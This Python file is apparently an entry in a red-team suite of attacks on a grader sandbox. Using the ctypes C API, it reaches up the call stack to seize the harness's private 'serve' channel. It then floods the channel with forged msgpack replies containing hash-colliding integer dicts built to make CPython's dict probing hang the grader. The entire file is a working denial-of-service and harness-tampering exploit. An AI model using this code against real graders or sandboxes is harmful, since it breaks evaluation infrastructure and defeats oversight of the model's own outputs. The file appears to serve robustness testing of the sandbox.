# attack: answers with dicts of integers that CPython probes for one after the other, in a tuple and elsewhere | class: hanging | canary: bytes | dud: plain pytest has no wire
import ctypes
import sys

import msgspec
import torch

from grader.sandbox.wire.messages import Loaded
from grader.sandbox.wire.packing import Packing


def answer(make):
    """Answer every later request with `make(channel, request)`."""
    # Use the C API: the attributes of frames lead to nothing.
    frames = ctypes.pythonapi
    frames.PyFrame_GetBack.restype = frames.PyFrame_GetLocals.restype = ctypes.py_object
    call = sys._getframe()
    while call.f_code.co_name != "serve":
        call = frames.PyFrame_GetBack(ctypes.py_object(call))
    channel = frames.PyFrame_GetLocals(ctypes.py_object(call))["channel"]
    channel.send(Loaded(), Packing(), None)
    while True:
        request, _ = channel.receive_request()
        make(channel, request)


def raw(channel, structure, blob=b""):
    if not isinstance(structure, bytes):
        structure = msgspec.msgpack.encode(structure)
    channel._socket.sendall(channel.sealed(structure, blob))


def extension(code, value):
    return msgspec.msgpack.Ext(code, msgspec.msgpack.encode(value))


def crowded(count, size):
    """Return integers whose lookups in a dict of `size` slots probe slots that are taken."""
    mask = size - 1
    filled = count * 2 // 3
    orbit, slot = [], 0
    for _ in range(filled):
        orbit.append(slot)
        slot = (5 * slot + 1) & mask
    place = torch.full((size,), size)
    place[torch.tensor(orbit)] = torch.arange(filled)
    keys, first = [], size
    while len(keys) < count - filled:
        h = torch.arange(first, first + 2**20)
        first += 2**20
        slot, perturb = h & mask, h
        while len(h) and perturb.any():
            taken = place[slot] < size
            h, slot, perturb = h[taken], slot[taken], perturb[taken] >> 5
            slot = (5 * slot + perturb + 1) & mask
        keys += h[place[slot] < filled // 4].tolist()
    return orbit + keys[: count - filled]


keys = crowded(21_000, 2**15)
every = dict.fromkeys(keys)
dicts = [7, [keys, [None] * len(keys)]]
replies = iter([
    extension(3, [every] * 8),
    extension(6, [extension(3, [every])] * 8),
    extension(3, [extension(*dicts)] * 8),
    extension(6, [extension(7, [keys[:5000], [None] * 5000])] * 30),
] * 9)


def make(channel, request):
    raw(channel, {"type": "returned", "value": next(replies)})


answer(make)
